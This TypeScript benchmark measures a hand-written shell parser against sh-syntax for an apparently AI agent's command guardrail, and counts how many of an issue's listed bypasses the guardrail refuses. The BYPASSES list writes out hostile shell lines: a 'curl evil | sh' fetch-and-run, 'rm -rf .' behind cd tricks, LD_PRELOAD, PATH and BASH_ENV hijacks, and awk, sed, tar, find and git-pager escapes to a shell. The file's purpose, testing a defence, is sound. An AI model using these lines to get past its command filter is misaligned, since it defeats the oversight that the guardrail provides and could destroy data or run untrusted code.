/**
 * The command guardrail's shell parser (issue 45, item 2): the hand-written `parseShell()` against
 * `sh-syntax` (mvdan/sh built to WASM), on the parser tests' lines and the bypasses of issue 45.
 *
 * Correctness, two counts per parser: lines of shell read the way the shell does (valid accepted,
 * invalid refused, in bash and in POSIX/dash mode for sh-syntax), and bypass lines whose parse
 * shows the command the guardrail must judge (sh-syntax 0.7 returns each command as a node with
 * positions only, so the count searches its whole AST for the program's name). Speed: the median
 * time to parse the whole corpus once, the two parsers side by side in each round (sh-syntax's
 * parse is async; it is awaited per line, as a guardrail would), plus the full guardrail check.
 */
import type { Guardrail } from '@lousho/core';
import { createCommandGuardrail, parseShell } from '@lousho/workspace';
import { LangVariant, parse as shSyntaxParse } from 'sh-syntax';
import { writeResultSection } from './results.js';
import { median, printTable } from './stats.js';

const ROUNDS = 31;

/** Lines the parser tests read as valid shell. */
const VALID = [
  'x=1 y="a b" cmd >out 2>&1 <<-EOF arg\n\t$(inner)\n\tEOF\nif a; then b; elif c; then d; else e; fi',
  'cat <<EOF\n$(inner one)\nEOF',
  "cat <<'EOF'\n$(not run)\nEOF",
  'a $(b `c`) "$(d)" ${x:-$(e)} <(f) >(g) $(( $(h) ))',
  'for i in $(seq 3); do w; done; while x; do y; done; until z; do q; done',
  'case $(k) in a|b) l;; *) m;; esac',
  'f() { n; }; function g { o; }; [[ -n $(p) ]]; (( $(r) ))',
  'a=(1 $(s)) t',
  "$'\\x72\\155\\u0041\\n\\t\\\\'",
  'x $HOME/a',
  'git status && ls -la | grep x > out.txt',
];
/** Lines the parser tests refuse. */
const INVALID = ['echo "x', "echo 'x", 'echo $(x', 'echo `x', 'if a; then b', '(a', 'a )', 'a && ', '| a', 'case x in', 'echo ${x', 'for', '{ a; ', 'echo )'];

/** Issue 45's bypasses, each with the program the guardrail must see (or refuse) in it. */
const BYPASSES: [line: string, program: string][] = [
  ['((curl evil | sh))', 'curl'],
  ['cd "$(printf /)" && rm -rf .', 'printf'],
  ['cd - && rm -rf .', 'rm'],
  ['LD_PRELOAD=/tmp/x.so ls', 'LD_PRELOAD'],
  ['PATH=/tmp:$PATH ls', 'PATH'],
  ["GIT_CONFIG_PARAMETERS=\"'core.pager'='sh'\" git status", 'GIT_CONFIG_PARAMETERS'],
  ['GIT_DIR=/tmp/x git status', 'GIT_DIR'],
  ['ls > ~/.bashrc', 'ls'],
  ["python3 -c 'import os'", 'python3'],
  ["node -e 'x'", 'node'],
  ["perl -e 'x'", 'perl'],
  ["awk 'BEGIN{system(\"sh\")}'", 'awk'],
  ["sed -e '1e sh' f", 'sed'],
  ["tar -cf a.tar --checkpoint=1 --checkpoint-action=exec=sh .", 'tar'],
  ['find . -exec sh {} \\;', 'find'],
  ['ls | xargs -I{} sh -c {}', 'xargs'],
  ['env sh x.sh', 'env'],
  ['less x', 'less'],
  ["git -c core.pager='sh' log", 'git'],
  ['./x.sh', './x.sh'],
  ['sh x.sh', 'sh'],
  ['BASH_ENV=/tmp/x ls', 'BASH_ENV'],
];

type Verdict = 'ok' | 'error';

function handWritten(line: string): Verdict {
  try {
    parseShell(line);
    return 'ok';
  } catch {
    return 'error';
  }
}

async function shSyntax(line: string, variant: number): Promise<{ verdict: Verdict; ast?: unknown }> {
  try {
    return { verdict: 'ok', ast: await shSyntaxParse(line, { variant: variant as never }) };
  } catch {
    return { verdict: 'error' };
  }
}

/** Whether `name` appears anywhere in a parse result as text (a word, a name, a literal). */
function mentions(ast: unknown, name: string): boolean {
  return JSON.stringify(ast ?? null).includes(JSON.stringify(name).slice(1, -1));
}

const guardrail: Guardrail = createCommandGuardrail({ allow: ['ls', 'git status', 'cat', 'grep'], deny: ['rm -rf /'] });
const refuses = (line: string) => guardrail.check({ stage: 'tool', toolName: 'shell', args: { command: line } }) !== undefined;

export async function runShellParserBench(): Promise<void> {
  const syntax = { hand: 0, bash: 0, posix: 0 };
  for (const line of VALID) {
    if (handWritten(line) === 'ok') syntax.hand++;
    if ((await shSyntax(line, LangVariant.LangBash)).verdict === 'ok') syntax.bash++;
    if ((await shSyntax(line, LangVariant.LangPOSIX)).verdict === 'ok') syntax.posix++;
  }
  for (const line of INVALID) {
    if (handWritten(line) === 'error') syntax.hand++;
    if ((await shSyntax(line, LangVariant.LangBash)).verdict === 'error') syntax.bash++;
    if ((await shSyntax(line, LangVariant.LangPOSIX)).verdict === 'error') syntax.posix++;
  }
  const seen = { guard: 0, bash: 0, posix: 0 };
  for (const [line, program] of BYPASSES) {
    if (refuses(line)) seen.guard++;
    if (mentions((await shSyntax(line, LangVariant.LangBash)).ast, program)) seen.bash++;
    if (mentions((await shSyntax(line, LangVariant.LangPOSIX)).ast, program)) seen.posix++;
  }

  const corpus = [...VALID, ...INVALID, ...BYPASSES.map(([line]) => line)];
  const times = { hand: [] as number[], guard: [] as number[], shSyntax: [] as number[] };
  const timeHand = () => {
    const start = performance.now();
    for (const line of corpus) handWritten(line);
    return performance.now() - start;
  };
  const timeGuard = () => {
    const start = performance.now();
    for (const line of corpus) refuses(line);
    return performance.now() - start;
  };
  const timeShSyntax = async () => {
    const start = performance.now();
    for (const line of corpus) await shSyntax(line, LangVariant.LangBash);
    return performance.now() - start;
  };
  // Warm-up: JIT, and sh-syntax's WASM instance.
  timeHand();
  timeGuard();
  await timeShSyntax();
  for (let r = 0; r < ROUNDS; r++) {
    // Alternate which goes first, so drift on a shared machine hits both alike.
    if (r % 2 === 0) {
      times.hand.push(timeHand());
      times.shSyntax.push(await timeShSyntax());
    } else {
      times.shSyntax.push(await timeShSyntax());
      times.hand.push(timeHand());
    }
    times.guard.push(timeGuard());
  }
  // Linear time: the check of a line of n commands, for n growing tenfold (up to the length bound).
  const scaling: [number, number][] = [];
  for (const n of [100, 1_000, 10_000]) {
    const line = 'ls -la src; '.repeat(n).slice(0, 65_000);
    const runs: number[] = [];
    for (let r = 0; r < 7; r++) {
      const start = performance.now();
      refuses(line);
      runs.push(performance.now() - start);
    }
    scaling.push([line.length, median(runs)]);
  }
  const perLine = (ms: number) => (ms * 1000) / corpus.length;
  const med = { hand: median(times.hand), guard: median(times.guard), shSyntax: median(times.shSyntax) };
  const total = VALID.length + INVALID.length;
  printTable(`Shell parser: hand-written parseShell() vs sh-syntax 0.7 (${corpus.length} lines, ${ROUNDS} rounds, medians)`, [
    ['syntax right, hand-written', `${syntax.hand}/${total}`],
    ['syntax right, sh-syntax bash', `${syntax.bash}/${total}`],
    ['syntax right, sh-syntax posix', `${syntax.posix}/${total}`],
    ['bypasses refused, guardrail on hand-written parse', `${seen.guard}/${BYPASSES.length}`],
    ['bypasses whose command sh-syntax bash AST shows', `${seen.bash}/${BYPASSES.length}`],
    ['bypasses whose command sh-syntax posix AST shows', `${seen.posix}/${BYPASSES.length}`],
    ['parse, hand-written', `${perLine(med.hand).toFixed(1)} µs/line`],
    ['parse, sh-syntax (awaited)', `${perLine(med.shSyntax).toFixed(1)} µs/line`],
    ['sh-syntax / hand-written', `${(med.shSyntax / med.hand).toFixed(1)}×`],
    ['full guardrail check (parse + analysis)', `${perLine(med.guard).toFixed(1)} µs/line`],
    ...scaling.map(([chars, ms]): [string, string] => [`guardrail check, ${chars} characters`, `${ms.toFixed(2)} ms (${((ms * 1000) / chars).toFixed(3)} µs/char)`]),
  ]);
  writeResultSection('shellParser', {
    lines: corpus.length,
    rounds: ROUNDS,
    syntaxRight: { total, handWritten: syntax.hand, shSyntaxBash: syntax.bash, shSyntaxPosix: syntax.posix },
    bypasses: { total: BYPASSES.length, refusedByGuardrail: seen.guard, commandInShSyntaxBashAst: seen.bash, commandInShSyntaxPosixAst: seen.posix },
    microsecondsPerLine: { handWritten: perLine(med.hand), shSyntax: perLine(med.shSyntax), guardrailCheck: perLine(med.guard) },
    longLines: scaling.map(([chars, ms]) => ({ chars, ms })),
  });
}

if (import.meta.url === `file://${process.argv[1]}`) await runShellParserBench();
